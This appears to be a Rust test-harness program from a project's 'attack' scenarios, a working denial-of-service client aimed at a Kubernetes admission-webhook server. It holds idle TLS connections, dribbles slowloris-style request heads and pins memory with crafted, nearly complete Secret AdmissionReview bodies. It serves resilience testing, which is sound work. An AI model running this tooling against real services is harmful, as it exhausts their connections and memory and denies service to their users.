//! The attacker of the `attack` scenarios: a pod that tries to hold an initializer's connection
//! slots or its memory. It keeps `ATTACK_IDLE` idle keep-alive connections (TLS, one
//! `GET /healthz`, then silence), `ATTACK_SLOW` slow-header connections (TLS, then a request
//! head one byte a second) and `ATTACK_BODIES` held bodies (TLS, a review's head declaring
//! `ATTACK_BODY_BYTES`, all of the body but its last byte at once, the last byte after
//! `ATTACK_BODY_HOLD_MS`: as much of the server's memory as a body can pin, for as long as the
//! body timeout allows; the body a valid review of a Secret with as many short-keyed data
//! entries as fit, the costliest object to decode per byte) open to `ATTACK_TARGET`, reopening
//! each one the server closes after
//! `ATTACK_REOPEN_MS`, and prints what it holds every second (`held idle=… slow=… …`):
//! `connected` counts every connection open at the moment in any phase (TCP connected, in the
//! TLS handshake, waiting for an answer, idle or dribbling), `idle` and `slow` the ones past
//! their handshake, `bodies` the bodies sent but for their last byte, and `answered_early` the
//! bodies the server answered (refused) before they were complete. Against a server that makes room by closing idle connections, most of what
//! the attacker has open at any moment is still in its handshake: `connected` is how hard it
//! presses, `idle` and `slow` how much it keeps.
//!
//! It runs where the pods are reachable (`Target::command_inside`), spread over the source
//! addresses in `ATTACK_SOURCES` (comma-separated; as many attacker pods would be), or from the
//! default address when that is empty or an address cannot be bound. It verifies the server with
//! the CA in the PEM file `ATTACK_CA` for the name `ATTACK_SERVER_NAME`, as any client would:
//! the attack needs no secret. It runs until killed.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Context, bail};
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio_rustls::TlsConnector;

/// What the attacker holds and has done, printed every second.
#[derive(Default)]
struct Tally {
    connected: AtomicUsize,
    idle: AtomicUsize,
    slow: AtomicUsize,
    bodies: AtomicUsize,
    answered_early: AtomicUsize,
    opened: AtomicUsize,
    closed_by_server: AtomicUsize,
    failed: AtomicUsize,
}

struct Settings {
    target: SocketAddr,
    server_name: ServerName<'static>,
    connector: TlsConnector,
    sources: Vec<IpAddr>,
    reopen: Duration,
    /// What each held body sends.
    body: Vec<u8>,
    body_hold: Duration,
}

/// A valid review of a Secret `bytes` long (or as short as one can be), its `data` short
/// keys with empty values: what costs a server the most memory per byte once it decodes it.
fn costly_review(bytes: usize) -> Vec<u8> {
    let head = br#"{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"attack","kind":{"group":"","version":"v1","kind":"Secret"},"resource":{"group":"","version":"v1","resource":"secrets"},"namespace":"default","operation":"CREATE","userInfo":{},"object":{"apiVersion":"v1","kind":"Secret","metadata":{"name":"attack","namespace":"default"},"data":{"#;
    let tail = b"}}}}";
    let mut body = head.to_vec();
    let mut n = 0u64;
    loop {
        let entry = format!(r#"{}"{n:x}":"""#, if n == 0 { "" } else { "," });
        if body.len() + entry.len() + tail.len() > bytes {
            break;
        }
        body.extend_from_slice(entry.as_bytes());
        n += 1;
    }
    // JSON allows whitespace between tokens: pad to the exact size.
    body.resize(bytes.saturating_sub(tail.len()).max(body.len()), b' ');
    body.extend_from_slice(tail);
    body
}

fn var(name: &str) -> anyhow::Result<String> {
    std::env::var(name).with_context(|| format!("failed to read {name}"))
}

fn connector(ca_pem: &[u8]) -> anyhow::Result<TlsConnector> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut roots = rustls::RootCertStore::empty();
    for cert in CertificateDer::pem_slice_iter(ca_pem) {
        roots.add(cert.context("failed to parse the CA")?)?;
    }
    if roots.is_empty() {
        bail!("failed to find a certificate in ATTACK_CA");
    }
    let config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()?
        .with_root_certificates(roots)
        .with_no_client_auth();
    Ok(TlsConnector::from(Arc::new(config)))
}

async fn tcp(settings: &Settings, index: usize) -> std::io::Result<TcpStream> {
    let socket = match settings.target {
        SocketAddr::V4(_) => TcpSocket::new_v4()?,
        SocketAddr::V6(_) => TcpSocket::new_v6()?,
    };
    if !settings.sources.is_empty() {
        let source = settings.sources[index % settings.sources.len()];
        // An address this host cannot bind (a cluster whose pod range is not local here) leaves
        // the connection on the default address: fewer "pods", the same attack.
        let _ = socket.bind(SocketAddr::new(source, 0));
    }
    socket.connect(settings.target).await
}

type Tls = tokio_rustls::client::TlsStream<TcpStream>;

/// One held body counted in [`Tally::bodies`] until it is dropped (sent whole, or answered
/// before that).
struct Holding<'a>(&'a AtomicUsize);

impl<'a> Holding<'a> {
    fn new(count: &'a AtomicUsize) -> Self {
        count.fetch_add(1, Ordering::Relaxed);
        Self(count)
    }
}

impl Drop for Holding<'_> {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::Relaxed);
    }
}

/// One connection counted in [`Tally::connected`] from its TCP connect until it is dropped.
struct Connected<'a>(&'a Tally);

impl<'a> Connected<'a> {
    fn new(tally: &'a Tally) -> Self {
        tally.connected.fetch_add(1, Ordering::Relaxed);
        Self(tally)
    }
}

impl Drop for Connected<'_> {
    fn drop(&mut self) {
        self.0.connected.fetch_sub(1, Ordering::Relaxed);
    }
}

async fn open<'a>(
    settings: &Settings,
    tally: &'a Tally,
    index: usize,
) -> std::io::Result<(Tls, Connected<'a>)> {
    let tcp = tcp(settings, index).await?;
    let connected = Connected::new(tally);
    let tls = settings
        .connector
        .connect(settings.server_name.clone(), tcp)
        .await?;
    Ok((tls, connected))
}

/// Reads until the end of one answer's head and its short body (`/healthz` answers `ok`).
async fn read_answer(tls: &mut Tls) -> std::io::Result<()> {
    let mut seen = Vec::new();
    let mut buf = [0u8; 1024];
    while !(seen.windows(4).any(|w| w == b"\r\n\r\n") && seen.ends_with(b"ok")) {
        let n = tls.read(&mut buf).await?;
        if n == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        seen.extend_from_slice(&buf[..n]);
    }
    Ok(())
}

/// One idle keep-alive connection: a request, then silence until the server closes it.
async fn hold_idle(settings: &Settings, tally: &Tally, index: usize) -> std::io::Result<()> {
    let (mut tls, _connected) = open(settings, tally, index).await?;
    tally.opened.fetch_add(1, Ordering::Relaxed);
    tls.write_all(b"GET /healthz HTTP/1.1\r\nHost: attacker\r\n\r\n")
        .await?;
    tls.flush().await?;
    read_answer(&mut tls).await?;
    tally.idle.fetch_add(1, Ordering::Relaxed);
    let mut buf = [0u8; 64];
    let ended = tls.read(&mut buf).await;
    tally.idle.fetch_sub(1, Ordering::Relaxed);
    tally.closed_by_server.fetch_add(1, Ordering::Relaxed);
    ended.map(drop)
}

/// One slow-header connection: a request head, one byte a second, never finished.
async fn hold_slow(settings: &Settings, tally: &Tally, index: usize) -> std::io::Result<()> {
    let (tls, _connected) = open(settings, tally, index).await?;
    tally.opened.fetch_add(1, Ordering::Relaxed);
    let (mut reader, mut writer) = tokio::io::split(tls);
    tally.slow.fetch_add(1, Ordering::Relaxed);
    let dribble = async {
        let head = b"POST /initialize HTTP/1.1\r\nHost: attacker\r\nX-Slow: ";
        for byte in head.iter().copied().chain(std::iter::repeat(b'a')) {
            writer.write_all(&[byte]).await?;
            writer.flush().await?;
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
        Ok::<(), std::io::Error>(())
    };
    let mut buf = [0u8; 256];
    let ended = tokio::select! {
        written = dribble => written,
        read = reader.read(&mut buf) => read.map(drop),
    };
    tally.slow.fetch_sub(1, Ordering::Relaxed);
    tally.closed_by_server.fetch_add(1, Ordering::Relaxed);
    ended
}

/// One held body: a review's head and all of its body but the last byte, the last byte once
/// the hold is over, then the answer. An answer that comes first (a refusal) ends it early.
async fn hold_body(settings: &Settings, tally: &Tally, index: usize) -> std::io::Result<()> {
    let (tls, _connected) = open(settings, tally, index).await?;
    tally.opened.fetch_add(1, Ordering::Relaxed);
    let (mut reader, mut writer) = tokio::io::split(tls);
    let send = async {
        let head = format!(
            "POST /initialize HTTP/1.1\r\nHost: attacker\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\n\r\n",
            settings.body.len()
        );
        writer.write_all(head.as_bytes()).await?;
        let (all_but_last, last) = settings.body.split_at(settings.body.len() - 1);
        writer.write_all(all_but_last).await?;
        writer.flush().await?;
        let holding = Holding::new(&tally.bodies);
        tokio::time::sleep(settings.body_hold).await;
        drop(holding);
        writer.write_all(last).await?;
        writer.flush().await?;
        Ok::<(), std::io::Error>(())
    };
    let mut buf = [0u8; 1024];
    tokio::select! {
        sent = send => {
            sent?;
            reader.read(&mut buf).await.map(drop)
        }
        read = reader.read(&mut buf) => {
            tally.answered_early.fetch_add(1, Ordering::Relaxed);
            read.map(drop)
        }
    }
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let target: SocketAddr = var("ATTACK_TARGET")?.parse()?;
    let server_name = ServerName::try_from(var("ATTACK_SERVER_NAME")?)?;
    let ca = std::fs::read(var("ATTACK_CA")?).context("failed to read ATTACK_CA")?;
    // Each kind of connection is optional: none unless asked for.
    let count = |name: &str| -> anyhow::Result<usize> {
        std::env::var(name)
            .ok()
            .map_or(Ok(0), |v| v.parse())
            .with_context(|| format!("failed to parse {name}"))
    };
    let idle = count("ATTACK_IDLE")?;
    let slow = count("ATTACK_SLOW")?;
    let bodies = count("ATTACK_BODIES")?;
    let reopen = Duration::from_millis(var("ATTACK_REOPEN_MS")?.parse()?);
    let sources = std::env::var("ATTACK_SOURCES")
        .unwrap_or_default()
        .split(',')
        .filter(|s| !s.is_empty())
        .map(str::parse)
        .collect::<Result<Vec<IpAddr>, _>>()?;
    let settings = Arc::new(Settings {
        target,
        server_name,
        connector: connector(&ca)?,
        sources,
        reopen,
        body: costly_review(count("ATTACK_BODY_BYTES")?),
        body_hold: Duration::from_millis(count("ATTACK_BODY_HOLD_MS")? as u64),
    });
    let tally = Arc::new(Tally::default());
    for index in 0..idle + slow + bodies {
        let (settings, tally) = (Arc::clone(&settings), Arc::clone(&tally));
        tokio::spawn(async move {
            loop {
                let held = if index < idle {
                    hold_idle(&settings, &tally, index).await
                } else if index < idle + slow {
                    hold_slow(&settings, &tally, index).await
                } else {
                    hold_body(&settings, &tally, index).await
                };
                if held.is_err() {
                    tally.failed.fetch_add(1, Ordering::Relaxed);
                }
                tokio::time::sleep(settings.reopen).await;
            }
        });
    }
    let mut ticks = tokio::time::interval(Duration::from_secs(1));
    loop {
        ticks.tick().await;
        println!(
            "held idle={} slow={} bodies={} connected={} opened={} closed_by_server={} \
             answered_early={} failed={}",
            tally.idle.load(Ordering::Relaxed),
            tally.slow.load(Ordering::Relaxed),
            tally.bodies.load(Ordering::Relaxed),
            tally.connected.load(Ordering::Relaxed),
            tally.opened.load(Ordering::Relaxed),
            tally.closed_by_server.load(Ordering::Relaxed),
            tally.answered_early.load(Ordering::Relaxed),
            tally.failed.load(Ordering::Relaxed),
        );
    }
}
